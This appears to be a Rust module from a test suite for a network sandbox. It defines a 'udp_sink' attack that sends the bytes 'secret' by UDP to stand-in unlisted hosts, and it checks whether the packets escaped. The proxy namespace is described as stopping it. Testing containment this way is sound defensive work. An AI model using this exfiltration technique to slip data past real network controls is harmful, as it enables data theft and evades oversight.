//! Sends datagrams to a host: no answer is needed to carry data out.
//!
//! Stopped by: the proxy namespace, which forwards nothing.

use super::prelude::*;

use std::net::UdpSocket;

/// One datagram to each of these.
pub(super) fn send(to: &[(IpAddr, u16)]) -> Verdict {
    for (address, port) in to {
        let any = if address.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
        let sent = UdpSocket::bind(any).and_then(|socket| {
            // Unconnected: an error of the first does not keep the second back.
            socket.send_to(b"secret", (*address, *port))?;
            socket.send_to(b"secret", (*address, *port))
        });
        drop(sent);
    }
    Verdict::Tried("sent".into())
}

pub const ATTACK: Attack = Attack {
    name: "udp_sink",
    about: "UDP to an unlisted host",
    attack: |_| send(&[(OTHER, 9999), (OTHER6, 9999), (OTHER, 123), (ALLOWED, 9999)]),
    effect: Some(|_, _| {
        let udp = |seen: &Seen| matches!(seen, Seen::Packet { to, protocol: 17, .. }
            if [OTHER, OTHER6, ALLOWED].contains(to));
        world::get().seen.find(udp)
    }),
    ..BASE
};
